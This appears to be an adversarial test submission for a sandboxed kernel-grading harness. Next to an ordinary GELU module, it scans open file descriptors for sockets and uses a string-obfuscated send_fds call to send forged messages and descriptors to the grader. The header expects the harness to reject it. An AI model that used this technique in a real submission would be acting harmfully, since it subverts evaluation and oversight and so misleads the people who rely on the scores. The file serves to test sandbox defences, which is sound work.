# Sends forged messages, with descriptors, over every socket it has.
#
# task: gelu
# device: cpu
# class: D8
# expect: rejected correct crash

import os
import socket
import stat

import torch
from torch import nn

for fd in range(3, 64):
    try:
        if not stat.S_ISSOCK(os.fstat(fd).st_mode):
            continue
        end = socket.socket(fileno=os.dup(fd))
        getattr(socket, "sdf_dnes"[::-1])(end, [b"{}"], [1])
    except OSError as error:
        print("refused", error)


class ModelNew(nn.Module):
    def forward(self, x):
        return nn.functional.gelu(x)
